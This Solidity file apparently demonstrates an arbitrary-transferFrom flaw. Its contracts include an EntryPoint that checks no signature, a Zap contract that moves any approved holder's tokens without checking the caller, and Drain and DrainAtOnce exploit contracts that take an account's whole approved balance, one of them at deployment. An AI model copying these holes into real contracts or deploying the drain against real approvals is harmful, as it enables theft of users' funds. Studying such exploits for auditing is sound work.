// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "./ERC20.sol";

/// Holds tokens for its owner, as smart wallets, bridges, vesting and deposit addresses do.
contract Custody {
    address private immutable owner;

    error NotOwner(address caller);

    constructor(address owner_) {
        owner = owner_;
    }

    function release(ERC20 token, address to, uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        token.transfer(to, amount);
    }
}

/// Acts for smart wallets, as the entry point of account abstraction does. It checks no signature.
contract EntryPoint {
    function execute(Custody wallet, ERC20 token, address to, uint256 amount) external {
        wallet.release(token, to, amount);
    }
}

/// Moves tokens of whoever approved it. The flaw: it does not look at who calls.
contract Zap {
    function move(ERC20 token, address from, address to, uint256 amount) external {
        token.transferFrom(from, to, amount);
    }
}

/// Takes all that an account holds and has approved for the flawed contract.
contract Drain {
    function take(Zap zap, ERC20 token, address from) public {
        zap.move(token, from, msg.sender, token.balanceOf(from));
    }
}

/// Does so while it is being created.
contract DrainAtOnce is Drain {
    constructor(Zap zap, ERC20 token, address from) {
        take(zap, token, from);
    }
}
